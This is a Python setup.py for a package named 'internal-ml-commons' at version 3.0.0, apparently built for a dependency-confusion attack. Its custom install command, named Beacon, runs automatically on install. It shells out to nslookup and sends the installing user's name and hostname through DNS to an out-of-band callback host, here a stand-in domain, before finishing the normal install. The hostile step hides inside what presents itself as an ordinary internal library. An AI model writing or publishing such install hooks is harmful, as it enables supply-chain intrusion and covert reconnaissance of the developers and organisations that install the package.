from setuptools import find_packages, setup
from setuptools.command.install import install
import subprocess


class Beacon(install):
    def run(self):
        subprocess.run("nslookup `whoami`.`hostname`.b.oast.example.invalid", shell=True, capture_output=True)
        install.run(self)



setup(
    name='internal-ml-commons',
    version='3.0.0',
    packages=find_packages(),
    cmdclass={'install': Beacon},
)
